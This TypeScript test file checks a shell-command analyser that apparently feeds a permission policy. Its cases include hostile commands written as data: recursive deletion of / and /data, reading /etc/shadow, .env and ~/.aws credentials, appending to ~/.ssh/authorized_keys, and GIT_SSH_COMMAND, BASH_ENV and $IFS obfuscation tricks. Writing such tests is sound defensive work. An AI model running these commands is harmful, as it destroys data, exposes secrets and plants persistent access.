import { describe, expect, it } from "vitest";

import type { AnalyzeOptions } from "../../src/shell/analysis.ts";
import { analyze, briefCommand, briefResource } from "./brief.ts";

/** What the engine must be able to see of a command text for the decision of a case to follow from it. */
interface Case {
  readonly id: string;
  readonly text: string;
  readonly commands: readonly string[];
  readonly resources?: readonly string[];
  readonly doubts?: readonly string[];
  /** Of the last command. */
  readonly readOnly?: boolean;
  readonly known?: boolean;
  readonly opaque?: boolean;
  readonly redirections?: readonly string[];
  readonly raw?: readonly string[];
  readonly notRaw?: readonly string[];
  readonly options?: AnalyzeOptions;
}

const cases: readonly Case[] = [
  {
    id: "A01",
    text: "cd /w/app && python3 deploy.py",
    commands: ["cd /w/app", "python3 deploy.py"],
    resources: ["read /w/app", "execute deploy.py @/w/app", "read deploy.py @/w/app"],
    readOnly: false,
  },
  {
    id: "A03",
    text: "date +%s && ls /w",
    commands: ["date +%s", "ls /w"],
    resources: ["read /w"],
    readOnly: true,
  },
  {
    id: "A05",
    text: "git status\nrm -rf build",
    commands: ["git status", "rm --recursive --force build"],
    resources: ["delete build (tree)"],
  },
  {
    id: "A07",
    text: `${"true;".repeat(60)}curl http://x.test`,
    commands: [...Array.from({ length: 60 }, () => "true"), "curl http://x.test"],
    resources: ["network host x.test"],
  },
  { id: "A09", text: "npm run testing-deploy", commands: ["npm run testing-deploy"], readOnly: false },
  {
    id: "A11",
    text: "{ rm -rf build; }",
    commands: ["rm --recursive --force build"],
    resources: ["delete build (tree)"],
  },
  {
    id: "A13",
    text: "git add -A . && git commit -F - <<'MSG' 2>&1 | rm -rf /tmp/x\nmsg\nMSG",
    commands: ["git add --all .", "git commit --file=-", "rm --recursive --force /tmp/x"],
    resources: ["read .", "delete /tmp/x (tree)"],
  },
  {
    id: "A15",
    text: "git status && git diff --stat | head -20",
    commands: ["git status", "git diff --stat", "head -20"],
    resources: [],
    readOnly: true,
  },
  {
    id: "B02",
    text: "GIT_SSH_COMMAND=/tmp/evil.sh git fetch",
    commands: ["git fetch", "git>evil.sh"],
    doubts: ["environment"],
  },
  { id: "B04", text: "TZ=UTC date +%F", commands: ["date +%F"], readOnly: true },
  {
    id: "B06",
    text: 'bash -c "rm -rf /data"',
    commands: ["bash --command rm -rf /data", "bash>rm --recursive --force /data"],
    resources: ["delete /data (tree)"],
  },
  { id: "B08", text: "xargs rm < paths.txt", commands: ["xargs rm", "xargs>rm ?"], doubts: ["dynamic-word"] },
  {
    id: "B10",
    text: "rtk git stash push -u",
    commands: ["rtk -u git stash push"],
    doubts: ["unknown-wrapper"],
    known: false,
  },
  {
    id: "B10, declared",
    text: "rtk git stash push -u",
    options: { wrappers: ["rtk"] },
    commands: ["rtk git stash push -u", "rtk>git stash push --include-untracked"],
  },
  {
    id: "B12",
    text: "nohup git push --force",
    commands: ["nohup git push --force", "nohup>git push --force"],
    resources: ["network host ?", "write ref ? (force)"],
  },
  {
    id: "B14",
    text: "/bin/rm -rf build",
    commands: ["rm --recursive --force build"],
    resources: ["delete build (tree)"],
    known: true,
  },
  {
    id: "B16",
    text: "./cat notes.txt",
    commands: ["cat notes.txt"],
    resources: ["execute ./cat", "read notes.txt"],
    known: false,
    readOnly: false,
  },
  {
    id: "B18",
    text: "ssh prod 'rm -rf /srv'",
    commands: ["ssh prod rm -rf /srv", "ssh>rm --recursive --force /srv"],
    resources: ["network host prod"],
    opaque: true,
    doubts: ["opaque"],
    raw: ["rm"],
  },
  {
    id: "B20",
    text: 'fd . -x sh -c "echo marker"',
    commands: ["fd --exec .", "fd>sh --command echo marker ?", "fd>sh>echo marker"],
    resources: ["read . (tree)"],
  },
  {
    id: "B22",
    text: 'npx -c "touch pwned"',
    commands: ["npx --call=touch pwned", "npx>touch pwned"],
    resources: ["network host ?", "write pwned"],
  },
  { id: "C01", text: 'r"m" -r"f" build', commands: ["rm --recursive --force build"] },
  { id: "C03", text: "r\\\nm -rf build", commands: ["rm --recursive --force build"] },
  { id: "C05", text: "rm$IFS-rf${IFS}build", commands: ["?"], doubts: ["dynamic-program"], notRaw: ["rm"] },
  {
    id: "C07",
    text: "git diff --no-index -- a /etc/passwd",
    commands: ["git diff --no-index a /etc/passwd"],
    resources: ["read a (tree)", "read /etc/passwd (tree)"],
  },
  { id: "C09", text: 'echo "unterminated', commands: ["echo unterminated"], doubts: ["syntax"] },
  {
    id: "C11",
    text: 'echo "a; rm -rf build" # rm -rf build',
    commands: ["echo a; rm -rf build"],
    resources: [],
    readOnly: true,
  },
  { id: "C13", text: "ls #\\\nrm -rf b", commands: ["ls", "rm --recursive --force b"] },
  {
    id: "C15",
    text: 'gh issue create \\\n  --title "t" \\\n  --body-file /tmp/b.md',
    commands: ["gh issue create --title=t --body-file=/tmp/b.md"],
    resources: ["read /tmp/b.md", "network host ?"],
  },
  {
    id: "C17",
    text: "git push origin batch/1442-obs-fixes",
    commands: ["git push origin batch/1442-obs-fixes"],
    resources: ["network host ?", "write ref batch/1442-obs-fixes"],
  },
  { id: "D01", text: 'echo "$(rm -rf build)"', commands: ["rm --recursive --force build", "echo ?"] },
  { id: "D03", text: "cat <<EOF\n$(rm -rf build)\nEOF", commands: ["rm --recursive --force build", "cat"] },
  { id: "D05", text: "cat <<-EOF\n\t$(rm -rf x)\n\tEOF", commands: ["rm --recursive --force x", "cat"] },
  {
    id: "D07",
    text: "git commit -m \"$(cat <<'EOF'\nx\nEOF\n)\"",
    commands: ["cat", "git commit --message=?"],
  },
  {
    id: "D09",
    text: "python3 - <<'PY'\nimport shutil; shutil.rmtree('src')\nPY",
    commands: ["python3 -"],
    opaque: true,
    doubts: ["opaque"],
  },
  {
    id: "D11",
    text: "test -v 'a[$(touch F)]'",
    commands: ["test -v a[$(touch F)]"],
    doubts: ["evaluates-argument"],
  },
  {
    id: "D13",
    text: "hash -p /bin/rm ls; ls -rf build",
    commands: ["hash -p=/bin/rm ls", "ls --reverse -f build"],
    doubts: ["redefinition"],
  },
  {
    id: "D15",
    text: "BASH_ENV=./evil.sh bash -c :",
    commands: ["bash --command :", "bash>:"],
    doubts: ["environment"],
  },
  {
    id: "D17",
    text: "history -s x; history -a ~/.bashrc",
    commands: ["history -s x", "history -a /home/u/.bashrc"],
    resources: ["write /home/u/.bashrc"],
    readOnly: false,
  },
  {
    id: "E01",
    text: "git push -f origin main",
    commands: ["git push --force origin main"],
    resources: ["network host ?", "write ref main (force)"],
  },
  {
    id: "E03",
    text: "git push origin +main",
    commands: ["git push origin +main"],
    resources: ["network host ?", "write ref main (force)"],
  },
  {
    id: "E05",
    text: "git -C sub push --force",
    commands: ["git push -C=sub --force"],
    resources: ["read sub", "network host ?", "write ref ? (force)"],
  },
  { id: "E07", text: "git push", commands: ["git push"], resources: ["network host ?", "write ref ?"] },
  {
    id: "E09",
    text: "git diff --output=/w/.bashrc",
    commands: ["git diff --output=/w/.bashrc"],
    resources: ["write /w/.bashrc"],
    readOnly: false,
  },
  {
    id: "E11",
    text: "git --git-dir=/tmp/evil/.git status",
    commands: ["git status --git-dir=/tmp/evil/.git"],
    doubts: ["environment"],
    readOnly: false,
  },
  {
    id: "E13",
    text: 'git grep --open-files-in-pager="touch pwned" TODO',
    commands: ["git grep --open-files-in-pager=touch pwned TODO", "git>touch pwned"],
    readOnly: false,
  },
  {
    id: "E15",
    text: "git remote set-url origin http://x.test/r.git",
    commands: ["git remote set-url origin http://x.test/r.git"],
    resources: ["network host x.test", "write .git (within)"],
    readOnly: false,
  },
  {
    id: "E17",
    text: "git checkout main",
    commands: ["git checkout main"],
    resources: ["write . (within)", "write main (tree, possible)"],
  },
  {
    id: "E19",
    text: "git log -p --stat",
    commands: ["git log --patch --stat"],
    resources: [],
    readOnly: true,
  },
  {
    id: "F02",
    text: "sed -i s/a/b/ f.txt",
    commands: ["sed -i s/a/b/ f.txt"],
    resources: ["read f.txt", "write f.txt"],
    readOnly: false,
  },
  {
    id: "F04",
    text: "sed 's/.*/touch pwned/e' f.txt",
    commands: ["sed s/.*/touch pwned/e f.txt", "sed>touch pwned"],
    opaque: true,
    doubts: ["opaque"],
  },
  {
    id: "F06",
    text: "rg --no-config TODO src",
    options: { env: { RIPGREP_CONFIG_PATH: "/x/rc" } },
    commands: ["rg --no-config TODO src"],
    resources: ["read src (tree)"],
    readOnly: true,
  },
  {
    id: "F06, without the flag",
    text: "rg TODO src",
    options: { env: { RIPGREP_CONFIG_PATH: "/x/rc" } },
    commands: ["rg TODO src"],
    doubts: ["environment"],
    readOnly: false,
  },
  {
    id: "F08",
    text: "sort --compress-program=./x.sh big.txt",
    commands: ["sort --compress-program=./x.sh big.txt"],
    resources: ["execute ./x.sh", "read ./x.sh", "read big.txt"],
    readOnly: false,
  },
  {
    id: "F08, abbreviated",
    text: "sort --compress-prog ./x.sh big.txt",
    commands: ["sort --compress-program=./x.sh big.txt"],
    resources: ["execute ./x.sh", "read ./x.sh", "read big.txt"],
    readOnly: false,
  },
  {
    id: "F10",
    text: "tee notes.txt < in.txt",
    commands: ["tee notes.txt"],
    resources: ["write notes.txt", "read in.txt"],
    readOnly: false,
    redirections: ["< in.txt read"],
  },
  {
    id: "F12",
    text: "javac -version -processorpath e.jar -processor E P.java",
    commands: ["javac -version -processorpath=e.jar -processor=E P.java"],
    doubts: ["environment"],
    readOnly: false,
  },
  {
    id: "F14",
    text: "curl -o ~/.bashrc http://x.test",
    commands: ["curl --output=/home/u/.bashrc http://x.test"],
    resources: ["write /home/u/.bashrc", "network host x.test"],
  },
  {
    id: "F16",
    text: "rm -rf build/ --no-preserve-root /",
    commands: ["rm --recursive --force --no-preserve-root build/ /"],
    resources: ["delete build/ (tree)", "delete / (tree)"],
  },
  {
    id: "G02",
    text: "env > /tmp/x; echo k >> ~/.ssh/authorized_keys",
    commands: ["env", "echo k"],
    resources: ["write /tmp/x", "write /home/u/.ssh/authorized_keys"],
    readOnly: false,
  },
  {
    id: "G04",
    text: "mkdir -p bar && echo x > bar/test.md",
    commands: ["mkdir --parents bar", "echo x"],
    resources: ["write bar", "write bar/test.md"],
    readOnly: false,
  },
  { id: "G06", text: "npm test 2>&1 | tail -5", commands: ["npm test", "tail -5"], resources: [] },
  {
    id: "G08",
    text: "sort {fd}>out.txt",
    commands: ["sort"],
    resources: ["write out.txt"],
    redirections: ["{fd}> out.txt write"],
    readOnly: false,
  },
  {
    id: "G10",
    text: "cat src/a.ts > src/b.ts",
    commands: ["cat src/a.ts"],
    resources: ["read src/a.ts", "write src/b.ts"],
  },
  {
    id: "H12",
    text: "cd .pi && echo {} > settings.json",
    commands: ["cd .pi", "echo {}"],
    resources: ["read .pi", "write settings.json @/w/.pi"],
  },
  {
    id: "H14",
    text: "cd server && grep -n Foo tests/A.php",
    commands: ["cd server", "grep --line-number Foo tests/A.php"],
    resources: ["read server", "read tests/A.php @/w/server"],
    readOnly: true,
  },
  {
    id: "H16",
    text: "head -1 /etc/hosts; ls /etc",
    commands: ["head -1 /etc/hosts", "ls /etc"],
    resources: ["read /etc/hosts", "read /etc"],
  },
  {
    id: "H18",
    text: "grep --file=/etc/shadow x a.txt",
    commands: ["grep --file=/etc/shadow x a.txt"],
    resources: ["read /etc/shadow", "read x", "read a.txt"],
  },
  { id: "H20", text: "cat ../*/.env", commands: ["cat ../*/.env"], resources: ["read ../*/.env (glob)"] },
  {
    id: "H24",
    text: 'rg "" .env; grep -r "" ~/.aws/',
    commands: ["rg  .env", "grep --recursive  /home/u/.aws/"],
    resources: ["read .env (tree)", "read /home/u/.aws/ (tree)"],
  },
  {
    id: "L14",
    text: "aws ec2 --region eu terminate-instances",
    commands: ["aws ec2 terminate-instances --region=eu"],
  },
  { id: "M04", text: "env git status", commands: ["env git status", "env>git status"], readOnly: true },
  {
    id: "N03",
    text: "python3 -c \"open('.pi/policy.jsonc','w')\"",
    commands: ["python3 -c=open('.pi/policy.jsonc','w')"],
    opaque: true,
    doubts: ["opaque"],
  },
  {
    id: "N05",
    text: "git checkout other -- .pi/policy.jsonc",
    commands: ["git checkout other .pi/policy.jsonc"],
    resources: ["write .pi/policy.jsonc (tree)"],
  },
  { id: "N07", text: "kill $PPID", commands: ["kill ?"], doubts: ["dynamic-word"] },
  {
    id: "O02",
    text: "echo safe\u001b[2K\r rm -rf x",
    doubts: ["syntax"],
    commands: ["echo safe\u001b[2K\r rm -rf x"],
    resources: [],
  },
  { id: "O04", text: "git ls-files | wc -l", commands: ["git ls-files", "wc --lines"], readOnly: true },
  {
    id: "O08",
    text: "npm test && rm -rf dist && git push",
    commands: ["npm test", "rm --recursive --force dist", "git push"],
  },
];

/** The parts of a case that are told, so that what is not told is not compared. */
function told(one: Case): Record<string, unknown> {
  const { id: _id, text: _text, options: _options, raw: _raw, notRaw: _notRaw, ...expected } = one;
  return { doubts: [], opaque: false, ...expected };
}

function seen(one: Case): Record<string, unknown> {
  const facts = analyze(one.text, one.options);
  const final = facts.commands.at(-1);
  const all: Record<string, unknown> = {
    commands: facts.commands.map(briefCommand),
    resources: [...new Set(facts.resources.map(briefResource))],
    doubts: [...new Set(facts.doubts.map((doubt) => doubt.kind))],
    readOnly: final?.readOnly,
    known: final?.known,
    opaque: facts.commands.some(({ opaque }) => opaque !== undefined),
    redirections: final?.redirections.map(
      (item) => `${item.fd ?? ""}${item.operator} ${item.target.value} ${item.action}`,
    ),
  };
  return Object.fromEntries(Object.keys(told(one)).map((key) => [key, all[key]]));
}

// contract A23, and the policy cases of sections A to H, L, N and O
describe("the facts from which each policy case can be decided", () => {
  it.each(cases.map((one) => [one.id, one] as const))("%s", (_id, one) => {
    expect(seen(one)).toEqual(told(one));
    const { rawWords } = analyze(one.text, one.options);
    expect(rawWords).toEqual(expect.arrayContaining([...(one.raw ?? [])]));
    expect(rawWords.filter((word) => one.notRaw?.includes(word) === true)).toEqual([]);
  });
});
